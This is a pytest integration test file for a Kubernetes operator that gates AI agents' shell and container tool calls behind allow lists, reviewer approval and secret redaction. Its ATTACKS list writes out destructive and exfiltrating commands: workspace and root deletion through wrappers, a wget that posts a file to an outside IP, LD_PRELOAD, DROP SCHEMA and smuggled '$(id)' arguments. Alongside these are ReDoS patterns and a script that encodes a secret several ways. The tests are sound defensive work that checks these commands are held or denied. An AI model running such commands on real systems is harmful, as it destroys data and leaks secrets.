"""Closing the holes an agent would use, on the real cluster, acting as an agent through its
own ServiceAccount token: shell commands run as their class only when they are listed
(wrappers judged by what they run), and secrets never sit beside a command the agent
chose."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from kubernetes import client

from tests.integration.objects import (
    SHELL_SCHEMA,
    Agent,
    approve,
    container_tool,
    create,
    descriptor,
    get,
    jobs_of,
    pretty,
    secret_file,
    shell_tool,
    status_of,
)
from tooladapter.devtools import Namespace, OperatorProcess, wait_for

pytestmark = [pytest.mark.cluster, pytest.mark.timeout(420)]

#: What a platform team might list as harmless: every attack below uses these programs.
LISTED = (
    "echo ls cat find sed awk xargs env timeout nice wget tar sleep sort uniq gzip busybox"
    " grep head tail wc id"
).split()

#: (command, what it would do if it ran as plain sandbox). None may get a Job before an
#: approval: each waits (unlisted) or is Denied (block list, structural rule).
ATTACKS = [
    "rm -r /workspace",
    "find /workspace -delete",
    "find /workspace -exec rm -r {} +",
    "env -vS'rm -rf /'",
    "env -vS'rm -r /workspace'",
    "timeout 5 rm -r /workspace",
    "nice -n 5 rm -r /workspace",
    "busybox rm -r /workspace",
    "xargs -a /tooladapter/arguments.json rm",
    "sh /tooladapter/arguments.json",
    "sh -c 'rm -r /workspace'",
    "awk 'BEGIN{system(\"rm -r /workspace\")}'",
    "sed -i s/a/b/ /workspace/x",
    "tar -cf /workspace/a.tar --remove-files /workspace",
    "sort -o /workspace/x /tooladapter/arguments.json",
    "uniq /tooladapter/arguments.json /workspace/out",
    "gzip /workspace/x",
    "wget --post-file=/tooladapter/arguments.json http://10.0.0.1/",
    "env LD_PRELOAD=/workspace/x.so ls",
    "python3 -c 'import shutil; shutil.rmtree(\"/workspace\")'",
    "perl -e 'unlink glob q{/workspace/*}'",
    "rsync -a --delete /tmp/ /workspace/",
    "mysql -e 'DROP SCHEMA prod'",
    "watch -n 1 'ls; id'",
]


def listed_shell_tool(api: client.ApiClient, namespace: str, tool_id: str = "sh") -> None:
    shell_tool(api, namespace, tool_id, shell={"allow": LISTED}, timeout=60)


def waits_or_is_denied(agent: Agent, name: str) -> dict[str, Any]:
    status = status_of(agent.wait(name, states={"AwaitingApproval", "Denied"}, timeout=120))
    assert status["state"] in ("AwaitingApproval", "Denied"), pretty(status)
    return status


def classification_detail(status: dict[str, Any]) -> str:
    return " ".join(s.get("detail", "") for s in status["stages"] if s["stage"] == "classification")


def test_a_destructive_command_on_no_list_waits_for_approval_or_is_denied_by_policy(
    api: client.ApiClient, ns: Namespace, agent: Agent
) -> None:
    listed_shell_tool(api, ns.name)
    agent.grant(["sh"], ["sandbox", "shared-write"])
    reviewer = Agent.create(api, ns.name, "reviewer", role="tooladapter-reviewer")

    # A listed command runs at once, as sandbox class, with no approval.
    at_once = agent.invoke("sh", {"command": "echo listed"})
    # The same destructive command, plain and through wrappers: never plain sandbox.
    plain = agent.invoke("sh", {"command": "rm -r /workspace"})
    wrapped = agent.invoke("sh", {"command": "timeout 5 busybox rm -r /workspace"})

    ran = status_of(agent.wait(at_once))
    assert ran["state"] == "Observed", pretty(ran)
    assert ran["effectiveClass"] == "sandbox" and not ran.get("approvalForced")
    assert ran["result"]["content"].strip() == "listed"
    for name in (plain, wrapped):
        status = status_of(agent.wait(name, states={"AwaitingApproval"}, timeout=120))
        assert status["effectiveClass"] == "shared-write", pretty(status)
        assert status["approvalForced"] is True
        assert "not on the allow list" in classification_detail(status)
    uid = {n: get(api, ns.name, "toolinvocations", n)["metadata"]["uid"] for n in (plain, wrapped)}
    assert {j.metadata.name for j in jobs_of(api, ns.name)} == {
        f"ta-{get(api, ns.name, 'toolinvocations', at_once)['metadata']['uid']}"
    }

    # A reviewer's approval lets it run, in its own sandbox (where rm cannot remove the
    # workspace mount itself, so the tool exits non-zero: it ran) ...
    approve(reviewer, plain)
    approved = status_of(agent.wait(plain, timeout=180))
    assert approved["state"] in ("Observed", "Failed"), pretty(approved)
    assert approved.get("failureClass") in (None, "tool-error"), pretty(approved)
    assert approved["execution"]["commandLine"] == ["rm", "-r", "/workspace"]
    assert approved["approval"]["reviewer"] == reviewer.user

    # ... until the tenant says unlisted commands are denied: a new call is Denied at once,
    # and the waiting one, approved afterwards, is denied by the re-check before acting.
    create(
        api,
        ns.name,
        "toolpolicies",
        {
            "kind": "ToolPolicy",
            "metadata": {"name": "no-unlisted"},
            "spec": {"shell": {"unlisted": "deny"}},
        },
    )
    wait_for(
        lambda: (get(api, ns.name, "toolpolicies", "no-unlisted").get("status") or {}).get("valid"),
        timeout=30,
        what="policy seen by the operator",
    )
    denied = status_of(agent.wait(agent.invoke("sh", {"command": "rm -r /workspace"})))
    assert (denied["state"], denied["deniedStage"]) == ("Denied", "classification"), pretty(denied)
    assert "shell.unlisted is deny" in denied["message"]
    approve(reviewer, wrapped)
    rechecked = status_of(agent.wait(wrapped, timeout=120))
    assert (rechecked["state"], rechecked["deniedStage"]) == ("Denied", "classification"), pretty(
        rechecked
    )
    assert f"ta-{uid[wrapped]}" not in {j.metadata.name for j in jobs_of(api, ns.name)}
    # Listed commands still run at once.
    still = status_of(agent.wait(agent.invoke("sh", {"command": "echo still"})))
    assert still["state"] == "Observed" and still["effectiveClass"] == "sandbox", pretty(still)


def test_without_an_allow_list_the_reference_default_applies(
    api: client.ApiClient, ns: Namespace, agent: Agent
) -> None:
    descriptor(
        api,
        ns.name,
        "bare",
        kind="shell",
        side_effect_class="sandbox",
        inputSchema=SHELL_SCHEMA,
        timeoutSeconds=60,
    )
    agent.grant(["bare"], ["sandbox"])
    # `git status` is on the reference's list: it runs at once as sandbox (the sandbox
    # image has no git, so it fails there, after running); `echo` is not on that list.
    git = status_of(agent.wait(agent.invoke("bare", {"command": "timeout 30 git status"})))
    assert git["state"] in ("Observed", "Failed"), pretty(git)
    assert git["effectiveClass"] == "sandbox" and git.get("execution"), pretty(git)
    echo = status_of(agent.wait(agent.invoke("bare", {"command": "echo hi"})))
    assert (echo["state"], echo["deniedStage"]) == ("Denied", "permission"), pretty(echo)
    assert "sideeffectclasses/shared-write" in echo["message"]


def test_no_attack_runs_as_plain_sandbox(
    api: client.ApiClient, ns: Namespace, agent: Agent
) -> None:
    listed_shell_tool(api, ns.name)
    agent.grant(["sh"], ["sandbox", "shared-write", "production"])
    # Extra arguments land in /tooladapter/arguments.json: text the agent chose.
    names = {
        command: agent.invoke("sh", {"command": command, "x": "$(id) `id`; id"})
        for command in ATTACKS
    }
    outcomes = {command: waits_or_is_denied(agent, name) for command, name in names.items()}
    for command, status in outcomes.items():
        if status["state"] == "AwaitingApproval":
            assert status["effectiveClass"] != "sandbox", (command, pretty(status))
            assert status["approvalForced"] is True, (command, pretty(status))
    assert jobs_of(api, ns.name) == [], [j.metadata.name for j in jobs_of(api, ns.name)]
    blocked = {c for c, s in outcomes.items() if s["state"] == "Denied"}
    assert {"env -vS'rm -rf /'", "mysql -e 'DROP SCHEMA prod'", "watch -n 1 'ls; id'"} <= blocked


def test_a_shell_tool_with_secrets_is_refused_and_a_container_tool_receives_them_redacted(
    api: client.ApiClient, ns: Namespace, agent: Agent
) -> None:
    value = "pa55-Word-" + "z" * 20
    client.CoreV1Api(api).create_namespaced_secret(
        ns.name,
        {  # type: ignore[arg-type]  # the client sends a dict body as is
            "metadata": {"name": "db"},
            "data": {"password": base64.b64encode(value.encode()).decode()},
        },
    )
    # A shell tool runs the agent's command: a credential file beside it is the agent's to
    # read, so the CRD refuses one (HTTP injection through the proxy is what it may carry).
    token = {
        "name": "sa",
        "source": {"serviceAccountToken": {"serviceAccountName": "default"}},
        "inject": {"file": "/tooladapter/credentials/sa/token"},
    }
    for index, credential in enumerate((secret_file("db", "db", "password"), token)):
        with pytest.raises(client.ApiException) as refused:
            shell_tool(api, ns.name, f"shell-file-{index}", credentials=[credential])
        assert refused.value.status == 422, refused.value.body
        assert "spec.credentials[].inject.file is not allowed when kind is shell" in str(
            refused.value.body
        )

    container_tool(
        api,
        ns.name,
        "db-check",
        ["cat", "/tooladapter/credentials/db/password", "/tooladapter/arguments.json"],
        credentials=[secret_file("db", "db", "password")],
    )
    agent.grant(["db-check"], ["sandbox"])
    status = status_of(agent.wait(agent.invoke("db-check", {"note": "hello"}), timeout=180))
    assert status["state"] == "Observed", pretty(status)
    content = status["result"]["content"]
    assert value not in str(status) and "REDACTED" in content
    assert '"note":"hello"' in content.replace(" ", "")
    lease = status["sandboxLease"]
    assert lease["secretName"] and lease["releasedAt"]


# --------------------------------------------------------------------------- no stalls, no
# leaks through encodings (the sanitizer on RE2, off the event loop; schema patterns on RE2)

#: The programs the slow shell tool may run (shell tools run only listed programs).
STALL_ALLOW = ["seq", "printf", "yes", "head"]
#: Outputs that were quadratic for the previous sanitizer (detect-secrets' npm and basic-auth
#: rules on Python `re`): `seq -s // 1 40000` took ~16-20 s there, `://a:` runs ~30 s.
SLOW_OUTPUTS = ["seq -s // 1 40000", "seq -s ://a: 1 100000", "seq -s eyJabcd.eyJabcd. 1 60000"]
#: Exponential for backtracking engines, accepted by the nesting rule: RE2 runs it linearly.
BACKTRACKING_PATTERN = "^(a|aa)*$"


def _quiet_cluster(api: client.ApiClient) -> None:
    """Wait (up to 120 s, then go on) until no earlier test's namespace is still being torn
    down: deleting its pods and objects loads the API server and kubelet on this two-core
    machine, which is not the operator's tenant isolation this test measures."""
    import time

    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        phases = [item.status.phase for item in client.CoreV1Api(api).list_namespace().items]
        if "Terminating" not in phases:
            return
        time.sleep(0.5)


def _timed_read(agent: Agent, tool: str) -> tuple[float, bool]:
    """(seconds from create to seeing the end, whether the API answered every poll)."""
    import time

    start = time.monotonic()
    name = agent.invoke(tool, {})
    steady = True
    while time.monotonic() - start < 120:
        try:
            obj = get(agent.api, agent.namespace, "toolinvocations", name)
        except client.ApiException:
            steady = False  # the API server itself was away (a restart): not our latency
            time.sleep(0.05)
            continue
        state = (obj.get("status") or {}).get("state")
        if state in ("Observed", "Failed", "Denied", "Uncertain", "Cancelled"):
            assert state == "Observed", pretty(obj)
            return time.monotonic() - start, steady
        time.sleep(0.025)
    raise AssertionError(f"read call {name} did not end within 120 s")


def test_slow_sanitizer_outputs_and_adversarial_patterns_do_not_delay_another_tenant(
    api: client.ApiClient, ns: Namespace, agent: Agent
) -> None:
    """The issue's acceptance: an output crafted to be slow for the sanitizer and an
    adversarial schema pattern do not delay another tenant's concurrent read call by more
    than 1 s. Tenant B's native `list-tools` calls run back to back while tenant A's calls
    run, are sanitized and are validated; each must end within 1 s of B's slowest call
    before A started (polled every 25 ms; samples during which the API server itself was
    unavailable are left out: the chaos tests restart it)."""
    import time

    other = Namespace(api)
    try:
        reader = Agent.create(api, other.name, "agent-b")
        descriptor(api, other.name, "list-tools", kind="native", native={"name": "list-tools"})
        reader.grant(["list-tools"], ["read"])

        shell_tool(api, ns.name, "slow", shell={"allow": STALL_ALLOW})
        descriptor(
            api,
            ns.name,
            "long",
            kind="shell",
            side_effect_class="sandbox",
            inputSchema={
                "type": "object",
                "properties": {"command": {"type": "string", "maxLength": 65536}},
                "required": ["command"],
            },
            shell={"allow": ["echo"]},
            sandbox={"resources": {"limits": {"cpu": "500m", "memory": "64Mi"}}},
        )
        descriptor(
            api,
            ns.name,
            "pick",
            kind="native",
            native={"name": "list-tools"},
            inputSchema={
                "type": "object",
                "properties": {"q": {"type": "string", "pattern": BACKTRACKING_PATTERN}},
            },
        )
        descriptor(
            api,
            ns.name,
            "nested",
            kind="native",
            native={"name": "list-tools"},
            inputSchema={
                "type": "object",
                "properties": {"q": {"type": "string", "pattern": "^(a+)+$"}},
            },
            wait_active=False,
        )
        agent.grant(["slow", "long", "pick", "nested"], ["sandbox", "read"])

        # The nested-quantifier pattern keeps its descriptor inactive, naming the pattern.
        inactive = wait_for(
            lambda: (get(api, ns.name, "tooldescriptors", "nested-1-0-0").get("status") or {}).get(
                "message"
            ),
            timeout=30,
            what="descriptor nested has a status message",
        )
        assert "'^(a+)+$'" in inactive and "nests unbounded quantifiers" in inactive, inactive

        _quiet_cluster(api)
        baseline = max(_timed_read(reader, "list-tools")[0] for _ in range(5))

        slow = [agent.invoke("slow", {"command": command}) for command in SLOW_OUTPUTS]
        # The shell check's SQL-comment rule was quadratic on Python `re` (~6 s for this).
        commented = agent.invoke("long", {"command": "echo '" + "/* " * 21_000 + "'"})
        crafted = agent.invoke("pick", {"q": "a" * 200_000 + "b"})
        refused = agent.invoke("nested", {"q": "a" * 50_000 + "b"})
        mine = [*slow, commented, crafted, refused]

        def ended(name: str) -> bool:
            status = get(api, ns.name, "toolinvocations", name).get("status") or {}
            return status.get("state") in ("Observed", "Failed", "Denied", "Uncertain")

        samples: list[float] = []
        deadline = time.monotonic() + 240
        while time.monotonic() < deadline:
            seconds, steady = _timed_read(reader, "list-tools")
            if steady:
                samples.append(seconds)
            try:
                if all(ended(name) for name in mine):
                    break
            except client.ApiException:
                continue
        else:
            raise AssertionError("tenant A's calls did not end within 240 s")
        samples.append(_timed_read(reader, "list-tools")[0])

        for name, command in zip(slow, SLOW_OUTPUTS, strict=True):
            status = status_of(agent.wait(name))
            assert status["state"] == "Observed", (command, pretty(status))
            assert status["result"]["originalBytes"] > 250_000, command
        status = status_of(agent.wait(commented))
        assert status["state"] == "Observed", pretty(status)
        status = status_of(agent.wait(crafted))
        assert status["state"] == "Denied" and status["deniedStage"] == "validation"
        assert "does not match" in status["message"], status["message"]
        status = status_of(agent.wait(refused))
        assert status["state"] == "Denied" and "not active" in status["message"]

        assert samples, "no undisturbed read call was measured"
        worst = max(samples)
        print(
            f"tenant B read calls: baseline max {baseline:.3f}s; during A: n={len(samples)}, "
            f"max {worst:.3f}s, median {sorted(samples)[len(samples) // 2]:.3f}s"
        )
        assert worst <= baseline + 1.0, (baseline, samples)
    finally:
        other.delete()


def test_a_brokered_secret_split_wrapped_and_encoded_by_the_tool_is_redacted(
    api: client.ApiClient, ns: Namespace, agent: Agent, operator: OperatorProcess
) -> None:
    """A container tool prints its brokered secret folded over lines, inside a base64
    document wrapped at 76 columns, as hex wrapped at 60, percent-encoded byte by byte and
    as a JSON string with escaped line breaks: none of it reaches status or the store."""
    value = "Brk-7Qz4vT9xLm2pRw8kHy6sBn4dJc5fGt7a-Pq1Wz3Ex5Rt7Yu9Io0Pa2Sd4Fg6Hj8Kl1Zx3Cv5Bn7M"
    client.CoreV1Api(api).create_namespaced_secret(
        ns.name,
        {  # type: ignore[arg-type]  # the client sends a dict body as is
            "metadata": {"name": "db"},
            "data": {"password": base64.b64encode(value.encode()).decode()},
        },
    )
    script = r"""S=$(cat /tooladapter/credentials/db/password)
echo "folded:"; printf '%s' "$S" | fold -w 16; echo
echo "base64:"; printf 'user: admin\npassword: %s\n' "$S" | base64
echo "hex:"; printf '%s' "$S" | od -An -tx1 -v | tr -d ' \n' | fold -w 60; echo
echo "url:"; printf '%s' "$S" | od -An -tx1 -v | tr -d '\n' | sed 's/ /%/g'; echo
J=$(printf '%s' "$S" | fold -w 20 | sed -e ':a' -e 'N' -e '$!ba' -e 's/\n/\\n/g')
echo "json:"; printf '{"v":"%s"}\n' "$J"
echo "done"
"""
    container_tool(
        api,
        ns.name,
        "encoder",
        ["/bin/sh", "-c", script],
        credentials=[secret_file("db", "db", "password")],
    )
    agent.grant(["encoder"], ["sandbox"])
    status = status_of(agent.wait(agent.invoke("encoder", {}), timeout=180))
    assert status["state"] == "Observed", pretty(status)
    content = status["result"]["content"]
    assert status["result"]["redactions"] == ["brokered-secret"], content
    assert content.count("[REDACTED:brokered-secret]") == 5, content
    assert content.rstrip().endswith("done"), content
    digest = status["resultRef"].split(":")[1]
    stored = (operator.artifacts / "results" / "sha256" / digest[:2] / digest).read_text()
    spellings = [
        value,
        value[:16],
        base64.b64encode(value.encode()).decode()[:40],
        value.encode().hex()[:60],
        "%" + "%".join(f"{b:02x}" for b in value.encode()[:12]),
    ]
    for text in (json.dumps(status), stored, "".join(stored.split())):
        for spelling in spellings:
            assert spelling not in text, spelling
    assert value not in operator.log_text()


def test_arguments_nested_too_deep_or_too_wide_are_refused_at_admission(
    api: client.ApiClient, ns: Namespace, agent: Agent
) -> None:
    """The API server accepts JSON nested 10,000 levels deep; an invocation ~1,000 deep made
    the operator's watch fail (RecursionError in kopf's json.loads) for every tenant. The
    admission policy refuses more than 32 levels (and collections of more than 1024 entries,
    which the API server iterates in quadratic time) before anything is stored."""
    descriptor(api, ns.name, "list-tools", kind="native", native={"name": "list-tools"})
    agent.grant(["list-tools"], ["read"])

    def nested(depth: int) -> dict[str, Any]:
        value: Any = 1
        for _ in range(depth - 1):
            value = [value]
        return {"x": value}

    for arguments in (nested(33), nested(300), {"x": list(range(1025))}):
        with pytest.raises(client.ApiException) as refused:
            agent.invoke("list-tools", arguments)
        assert refused.value.status == 422, refused.value.body
        assert "tooladapter-invocation-arguments" in str(refused.value.body)
    status = status_of(agent.wait(agent.invoke("list-tools", nested(32))))
    assert status["state"] == "Observed", pretty(status)
    status = status_of(agent.wait(agent.invoke("list-tools", {"x": list(range(1024))})))
    assert status["state"] == "Observed", pretty(status)
